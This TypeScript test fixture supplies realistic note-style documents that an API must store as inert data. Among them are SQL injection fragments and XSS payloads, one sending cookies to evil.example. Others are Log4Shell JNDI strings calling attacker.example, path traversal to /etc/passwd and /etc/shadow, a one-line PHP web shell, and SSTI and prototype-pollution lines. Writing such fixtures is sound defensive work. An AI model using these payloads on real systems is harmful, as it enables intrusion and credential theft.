/**
 * Realistic free text for documents: the code, SQL, shell, markup and payload-looking strings that
 * engineers and security people keep in their notes. The edge must pass all of it (documents are
 * data to the API, never interpreted).
 */
export const CODE_LIKE_DOCUMENTS: { title: string; body: string }[] = [
  {
    title: "Postgres: who's blocking whom?",
    body: [
      'When a deploy hangs, run:',
      '',
      "SELECT pid, usename, state, query FROM pg_stat_activity WHERE state <> 'idle' ORDER BY query_start;",
      'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE wait_event_type = \'Lock\' AND now() - query_start > interval \'5 min\';',
      '',
      "Never `DROP TABLE documents;` on prod -- use a migration. And don't build SQL like \"WHERE id = '\" + id + \"' OR 1=1\": bind $1.",
      'UNION SELECT is how the 2019 incident leaked rows; see the post-mortem.',
    ].join('\n'),
  },
  {
    title: 'Shell snippets for the on-call runbook',
    body: [
      '```bash',
      "curl -sS -H \"Authorization: Bearer $TOKEN\" https://api.example.com/v1/me | jq '.roles[]'",
      "find /var/log/app -name '*.log' -mtime +7 -exec gzip {} \\;",
      'echo "$(whoami)@$(hostname)" && cat /etc/os-release; uname -a | tee -a /tmp/host.txt',
      'kubectl exec -it deploy/api -- sh -c \'wget -qO- localhost:3000/health/ready\'',
      'for f in *.csv; do awk -F, \'{ s += $3 } END { print FILENAME, s }\' "$f"; done',
      '```',
    ].join('\n'),
  },
  {
    title: '<XSS> lecture notes',
    body: [
      'Classic reflected payloads we showed the students:',
      '<script>alert(document.cookie)</script>',
      '<img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
      '<a href="javascript:void(0)" onclick="steal()">click</a>',
      '<svg/onload=alert(1)> and <iframe srcdoc="<script>parent.x()</script>">',
      'React escapes {userInput}; dangerouslySetInnerHTML={{ __html: html }} does not.',
    ].join('\n'),
  },
  {
    title: 'Log4Shell retro (CVE-2021-44228)',
    body: [
      'The payload was ${jndi:ldap://attacker.example:1389/Exploit} in any logged header, e.g. User-Agent.',
      'Obfuscated variants: ${${lower:j}ndi:${lower:l}dap://x.example/a} and ${jndi:dns://x.example}.',
      'Java fix: upgrade to 2.17.1, or set -Dlog4j2.formatMsgNoLookups=true; Runtime.getRuntime().exec(cmd) was the gadget end.',
      'new java.lang.ProcessBuilder("sh", "-c", cmd).start(); ObjectInputStream.readObject() is the other classic.',
    ].join('\n'),
  },
  {
    title: 'CTF write-up: path traversal & PHP',
    body: [
      'The download endpoint took ?file=../../../../etc/passwd and also ..%2f..%2fetc%2fshadow.',
      'On Windows targets: ..\\..\\windows\\win.ini and C:\\Windows\\System32\\drivers\\etc\\hosts.',
      "The upload accepted <?php echo shell_exec($_GET['cmd']); ?> as avatar.php; include($_GET['page']) did the rest.",
      'Lesson: file:///etc/hosts and php://filter/convert.base64-encode/resource=index.php are both reads.',
    ].join('\n'),
  },
  {
    title: 'HTTP by hand',
    body: [
      'Raw request for the workshop:',
      'GET /index.html HTTP/1.1',
      'Host: example.com',
      'Connection: close',
      '',
      'POST /api/items HTTP/1.1 with Transfer-Encoding: chunked then 0\\r\\n\\r\\n — request smuggling 101.',
    ].join('\n'),
  },
  {
    title: 'Node.js review checklist',
    body: [
      "const { exec } = require('child_process'); exec(`convert ${file} out.png`) // NO: execFile('convert', [file, 'out.png'])",
      "eval(req.query.expr); new Function('a', 'return a')(1); vm.runInNewContext(code) — all banned by lint.",
      "Object.assign({}, JSON.parse(body)) with {\"__proto__\": {\"isAdmin\": true}} — prototype pollution.",
      "process.mainModule.require('child_process').execSync('id') shows up in every SSTI payload list.",
    ].join('\n'),
  },
  {
    title: 'Café notes — naïve façade, 日本語のメモ 🚀',
    body: 'Zoë said: « l’été sera chaud » — 50% off; price < 10 € & qty >= 3; a=1&b=2; 1/2 + 3*4 = 13.5; email me at zoe+notes@example.fr; ¿qué? ¡sí!',
  },
];

/** Display names people really have: apostrophes, hyphens, accents, non-Latin scripts. */
export const DISPLAY_NAMES = ["Seán O'Brien-Smith", "D'Angelo, Zoë", 'José María Núñez', 'Ólafur Þórðarson', '王小明', "Renée d'Arc & Co.", 'Dr. Jane "JJ" Jones'];
